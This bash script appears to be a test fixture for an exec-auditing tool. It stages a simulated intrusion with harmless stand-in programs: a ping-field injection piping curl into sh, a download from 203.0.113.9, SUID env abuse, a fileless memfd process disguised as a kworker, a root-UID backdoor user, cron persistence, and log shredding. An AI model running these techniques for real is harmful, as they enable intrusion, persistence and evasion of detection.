#!/bin/bash
# Plays the night of docs/recipes.md: real processes, which harm nothing and leave nothing behind.
#
#   night.sh FOLDER
#
# As root; FOLDER is empty, and every user can enter it. The programs are copies of `true`, `cat` and shells in
# that folder, so no other process of the machine has their paths. FOLDER/notes has what only this script knows:
# pids, the terminal, and when the night began. When everything has happened it prints `done`, and goes on with
# one program in memory until its standard input ends.
set -euo pipefail

export F=$1 CONTAINER=7d1f2ab30c4e5f60718293a4b5c6d7e8f9012a3b4c5d6e7f8091a2b3c4d5e6f7
export PATH=$F/bin:/usr/sbin:/usr/bin:/sbin:/bin
GROUPS_OF_NIGHT=$F/unified/execaudit-night-$$
GROUP=$GROUPS_OF_NIGHT/docker-$CONTAINER.scope
exec 3>&1 >/dev/null
ulimit -c 0

clean_up() {
	trap - EXIT
	# Until its cgroup is empty, rmdir fails.
	[ ! -s "$F/notes/kworker" ] || kill "$(cat "$F/notes/kworker")" || true
	[ ! -d "$GROUP" ] || rmdir "$GROUP" "$GROUPS_OF_NIGHT" || true
	for mounted in suid unified; do
		! mountpoint --quiet "$F/$mounted" || umount "$F/$mounted"
	done
}
trap clean_up EXIT

as() { # as UID COMMAND...
	setpriv --reuid="$1" --regid="$1" --clear-groups "${@:2}"
}

# ---- the machine

cd "$F"
mkdir bin cron.d drop lib notes rootfs srv suid unified web
chmod 1777 drop notes
for name in ping uname wget shred useradd install logger journalctl; do cp /bin/true "bin/$name"; done
cp /bin/false bin/find
cp /bin/cat bin/curl # "curl -u FILE" prints it
for name in cron node php-fpm8.2; do cp /bin/dash "bin/$name"; done
mount -t tmpfs -o suid,mode=755 none suid
cp /usr/bin/env suid/backup-helper
chmod 4755 suid/backup-helper
mount -t cgroup2 none unified
mkdir -p "$GROUP"

cat >bin/healthcheck <<'END'
#!/bin/sh
curl -u "$F/srv/health"
END
echo ok >srv/health
cp /bin/dash srv/up

cat >srv/s.sh <<'END'
uname -a
find / -xdev -perm -4000 -type f
PATH=$F/none-1:$F/none-2 /usr/bin/env gcc -o "$F/drop/up" up.c
curl -u "$F/srv/up" >"$F/drop/up"
"$F/drop/up"
chmod +x "$F/drop/up"
sh -c 'exec 3<"$F/drop/up"; rm -f "$F/drop/up"; exec /proc/self/fd/3 -c "kill -SEGV \$\$"'
/usr/bin/python3 - <<'PY' &
import os
memory = os.memfd_create("x", 0)
with open("/bin/sleep", "rb") as file:
    os.write(memory, file.read())
os.execve(f"/proc/self/fd/{memory}", ["[kworker/1:2]", "300"], {})
PY
echo $! >"$F/notes/kworker"
padding=$(printf '%070000d' 0)
sh -c "true $padding; curl -u $F/srv/health"
cat >"$F/drop/tar" <<'SCRIPT'
#!/bin/sh -p
tee "$F/cron.d/sync" </dev/null &
echo $! >"$F/notes/tee"
wait
install -m 755 "$F/drop/s" "$F/lib/.sync"
setpriv --reuid=0 --regid=0 --clear-groups "$F/bin/useradd" -o -u 0 -M support
SCRIPT
chmod +x "$F/drop/tar"
PATH=$F/drop:$PATH "$F/suid/backup-helper" tar czf shop.tgz .
END

cat >web/pool.sh <<'END'
cd "$F/web"
sh -c 'ping -c 1 127.0.0.1; id; exit'
sh -c 'ping -c 1 ;curl -u "$F/srv/s.sh" | sh; exit' &
echo $! >"$F/notes/shell"
wait
END

cat >lib/.sync <<'END'
#!/bin/sh
curl -u "$F/srv/health"
exit "$1"
END
chmod +x bin/healthcheck lib/.sync

cat >cron.d/crontab <<'END'
for status in 28 0 0; do sh -c "$F/lib/.sync $status; exit"; done
sh -c "$F/bin/healthcheck; exit"
END

cat >rootfs.sh <<'END'
mount --rbind / "$F/rootfs"
exec chroot "$F/rootfs" "$F/bin/node" "$F/server.sh"
END
cat >server.sh <<'END'
cd "$F"
sh -c 'wget -qO- http://203.0.113.9/c.sh; PATH=$F/none-1 /usr/bin/env docker ps; exit'
END

cat >login.sh <<'END'
tty >"$F/notes/tty"
shred -u /var/log/auth.log
strace -o "$F/drop/k" "$F/bin/journalctl" --vacuum-time=1s &
echo $! >"$F/notes/strace"
wait
/usr/bin/printf $'\xff\xfe\x1b[2J'
logger bye
END

# ---- the evening, and the noise of the whole night

noise() {
	for _ in 1 2 3 4 5 6 7 8; do
		as 1 sh -c '"$F/bin/healthcheck"; exit'
	done
}
noise
bin/cron -c 'logger run-parts /etc/cron.hourly; exit'
sleep 0.1
date +@%s.%N >notes/begin
sleep 0.1

# ---- the night

noise &
as 33 bash -c 'exec -a "php-fpm: pool www" "$F/bin/php-fpm8.2" "$F/web/pool.sh"' || true
"$F/bin/cron" cron.d/crontab &
echo $! >notes/cron
(
	echo 0 >"$GROUP/cgroup.procs"
	exec unshare --mount --pid --fork --kill-child sh rootfs.sh
) || true
(
	echo 54321 >/proc/self/loginuid
	SHELL=/bin/bash exec script --quiet --flush --return --command "bash $F/login.sh" /dev/null
) </dev/null
wait
until [ "$(readlink "/proc/$(cat notes/kworker)/exe")" = "/memfd:x (deleted)" ]; do sleep 0.02; done
echo "done" >&3
cat >/dev/null # until the end of standard input
